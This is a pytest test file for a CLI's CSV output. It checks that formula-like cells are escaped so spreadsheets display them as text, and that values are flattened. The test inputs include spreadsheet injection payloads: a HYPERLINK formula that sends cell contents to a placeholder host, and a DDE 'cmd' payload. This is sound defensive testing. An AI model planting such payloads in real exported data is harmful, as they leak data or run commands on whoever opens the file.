"""`-o csv`: cells that a spreadsheet may open."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from nodeworthy.cli.output import Column, print_rows


def cell(value: Any, capsys: pytest.CaptureFixture[str]) -> str:
    print_rows([{"a": value, "b": 1}], [Column("a"), Column("b")], "csv", schema="x/1")
    heading, row = csv.reader(io.StringIO(capsys.readouterr().out))
    assert heading == ["a", "b"]
    assert row[1] == "1"
    return row[0]


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "  =1+1", "-"]
)
def test_text_is_never_a_formula(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A drain reason that begins like a formula stands behind an apostrophe, so a spreadsheet shows it."""
    assert cell(text, capsys) == "'" + text


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\n=1+1"])
def test_a_control_before_a_formula_does_not_help(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    """TAB and CR, which spreadsheets skip, are visible escapes."""
    assert cell(text, capsys)[0] == "\\"


@pytest.mark.parametrize(("value", "said"), [(-1.5, "-1.5"), (-3, "-3"), ("-3.5", "-3.5"), (True, "True"), (None, "")])
def test_numbers_stay_numbers(value: Any, said: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A lead of -3 s is a number to count with; what is not known is empty."""
    assert cell(value, capsys) == said


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ({"rack": "r1", "feed": "A"}, "rack=r1,feed=A"),
        ({"kind": "person", "name": None}, "kind=person,name="),
        (["n1", "n2"], "n1,n2"),
        ([{"code": 79}, {"code": 48}], "code=79,code=48"),
        (["=1+1"], "'=1+1"),
        ({}, ""),
    ],
)
def test_lists_and_pairs_are_flat(value: Any, said: str, capsys: pytest.CaptureFixture[str]) -> None:
    """No cell shows the notation of a programming language."""
    assert cell(value, capsys) == said
